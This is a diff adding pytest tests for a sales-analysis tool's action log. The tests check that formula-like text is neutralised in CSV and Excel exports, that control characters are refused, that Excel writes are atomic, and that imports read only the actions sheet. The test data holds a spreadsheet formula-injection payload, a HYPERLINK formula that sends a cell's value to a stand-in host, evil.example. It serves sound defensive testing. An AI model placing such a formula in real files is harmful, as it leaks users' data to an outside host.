@@ -150,3 +150,140 @@ def test_a_workbook_from_before_the_action_columns_still_reads(tmp_path):
     with sa.open_workbook(path) as writable:  # opened for writing, it gains them
         actions.add(writable, rep="R1", text="Call back", period="2025-03")
         assert actions.log(writable)["period"].tolist() == ["2025-03"]
+
+
+# every start a spreadsheet may take for a formula, and quotes that look like the CSV guard
+# (a stored text never starts with a blank: the import trims it)
+FORMULA_TEXTS = ['=HYPERLINK("http://evil.example/?leak="&B2,"Open the plan")', "+1+1",
+                 "-2+3", "@SUM(A1:A9)", "=", "'=already quoted", "''+two quotes",
+                 "'\ttab", "'plain quote", "plain = text", "a\n=b"]
+C0 = "".join(chr(c) for c in [*range(0x00, 0x09), 0x0b, 0x0c, *range(0x0e, 0x20)])
+
+
+def _cells(path):
+    import openpyxl
+
+    return [cell for sheet in openpyxl.load_workbook(path) for row in sheet.iter_rows()
+            for cell in row]
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
+def test_text_like_a_formula_stays_text_and_reads_back_unchanged(wb, tmp_path, suffix):
+    import csv
+
+    for text in FORMULA_TEXTS:
+        actions.add(wb, rep="R1", text=text, owner=text, criterion=text)
+    before = actions.log(wb)
+    path = actions.export(wb, tmp_path / f"log{suffix}")
+    if suffix == ".xlsx":
+        assert not [c.coordinate for c in _cells(path) if c.data_type == "f"]
+        texts = {c.value for c in _cells(path) if c.column_letter == "F"}  # the text column
+        assert set(FORMULA_TEXTS) <= texts
+    else:
+        with path.open(newline="", encoding="utf-8") as f:
+            fields = [v for row in csv.reader(f) for v in row]
+        assert not [v for v in fields if v[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    actions.import_file(wb, path)
+    after = actions.log(wb)
+    for column in ("text", "owner", "criterion"):
+        assert after[column].tolist() == before[column].tolist() == FORMULA_TEXTS
+
+
+def test_the_csv_guard_round_trips_every_formula_start():
+    for start in ("=", "+", "-", "@", "\t", "\r"):
+        for quotes in ("", "'", "''"):
+            text = f"{quotes}{start}x"
+            guarded = actions._guard(text)
+            assert guarded == "'" + text and actions._unguard(guarded) == text
+    for text in ("'x", "x=1", "", "'"):
+        assert actions._guard(text) == text == actions._unguard(text)
+
+
+def test_excel_text_starting_like_a_formula_is_a_text_cell(tmp_path):
+    # a leading CR too, but the file's XML reads a CR back as a line feed
+    texts = [f"{start}x" for start in ("=", "+", "-", "@", "\t")]
+    path = actions.write_xlsx(tmp_path / "t.xlsx", {"t": pd.DataFrame({"text": texts})})
+    cells = [c for c in _cells(path) if c.row > 1]
+    assert [(c.value, c.data_type, c.quotePrefix) for c in cells] == [
+        (t, "s", True) for t in texts]
+
+
+def test_a_control_character_is_refused_naming_the_field(wb):
+    for character in C0:
+        with pytest.raises(ValueError, match=r"text must not contain control characters.*U\+"):
+            actions.add(wb, rep="R1", text=f"call{character}back")
+    for field in ("owner", "criterion", "period", "finding"):
+        with pytest.raises(ValueError, match=f"^{field} must not contain control characters"):
+            actions.add(wb, rep="R1", text="Call back", **{field: "a\x01b"})
+    assert actions.log(wb).empty
+    action_id = actions.add(wb, rep="R1", text="tabs\tand\nnew lines are text")
+    with pytest.raises(ValueError, match="notes must not contain control characters"):
+        actions.set_status(wb, action_id, "done", notes="bell\x07")
+    assert actions.log(wb)["status"].tolist() == ["open"]
+
+
+def _store_control_characters(wb):
+    """An action whose text and owner hold every C0 control character, as an import of
+    an older file may have stored."""
+    actions.add(wb, rep="R1", text="placeholder", period="2025-03")
+    row = actions.log(wb).assign(text=f"a{C0}b", owner=f"o{C0}")
+    wb.import_data({"actions": row}, strict=True)
+    assert actions.log(wb)["text"].tolist() == [f"a{C0}b"]
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
+def test_stored_control_characters_still_export(wb, tmp_path, suffix):
+    _store_control_characters(wb)
+    path = actions.export(wb, tmp_path / f"log{suffix}")
+    shown = pd.read_csv(path) if suffix == ".csv" else pd.read_excel(path, sheet_name="actions")
+    assert shown["text"].tolist() == ["a" + actions.PLACEHOLDER * len(C0) + "b"]
+    assert shown["owner"].tolist() == ["o" + actions.PLACEHOLDER * len(C0)]
+
+
+def test_a_failed_excel_write_leaves_the_earlier_file_whole(tmp_path, monkeypatch):
+    path = tmp_path / "log.xlsx"
+    actions.write_xlsx(path, {"actions": pd.DataFrame({"text": ["earlier"]})})
+
+    def fail(sheet):
+        raise OSError("disk full")
+
+    monkeypatch.setattr(actions, "_keep_text", fail)
+    with pytest.raises(OSError, match="disk full"):
+        actions.write_xlsx(path, {"actions": pd.DataFrame({"text": ["later"]})})
+    assert pd.read_excel(path)["text"].tolist() == ["earlier"]
+    assert [p.name for p in tmp_path.iterdir()] == ["log.xlsx"]  # no part file left
+    with pytest.raises(OSError):
+        actions.write_xlsx(tmp_path / "new.xlsx", {"actions": pd.DataFrame({"text": ["x"]})})
+    assert [p.name for p in tmp_path.iterdir()] == ["log.xlsx"]
+
+
+def test_import_reads_only_the_actions_sheet(wb, tmp_path):
+    import openpyxl
+
+    from salesanalysis.errors import SourceError
+
+    actions.add(wb, rep="R1", text="Call back", period="2025-03")
+    reps_before = wb.table("reps").to_pandas()
+    targets_before = wb.table("targets").to_pandas()
+    path = actions.export(wb, tmp_path / "log.xlsx")
+    book = openpyxl.load_workbook(path)
+    book["actions"]["F2"] = "Call back twice"
+    book.create_sheet("reps").append(["rep_id", "name"])
+    book["reps"].append(["R1", "Hijacked"])
+    book.create_sheet("Targets").append(["period", "scope_level", "scope_id", "metric", "value"])
+    book["Targets"].append(["2025-03", "rep", "R1", "revenue", 1])
+    book.create_sheet("opportunities").append(["opportunity_id", "rep_id"])
+    book.save(path)
+    report = actions.import_file(wb, path)
+    assert actions.log(wb)["text"].tolist() == ["Call back twice"]
+    pd.testing.assert_frame_equal(wb.table("reps").to_pandas(), reps_before)
+    pd.testing.assert_frame_equal(wb.table("targets").to_pandas(), targets_before)
+    assert [r.table for r in report.results] == ["actions"]
+    assert report.ignored == [f"log.xlsx[{s}] (only the actions sheet is read)"
+                              for s in ("reps", "Targets", "opportunities")]
+    assert "ignored: log.xlsx[reps]" in str(report)
+    del book["actions"]
+    book.save(path)
+    with pytest.raises(SourceError, match="no sheet 'actions'.*'reps', 'Targets'"):
+        actions.import_file(wb, path)
+    pd.testing.assert_frame_equal(wb.table("reps").to_pandas(), reps_before)
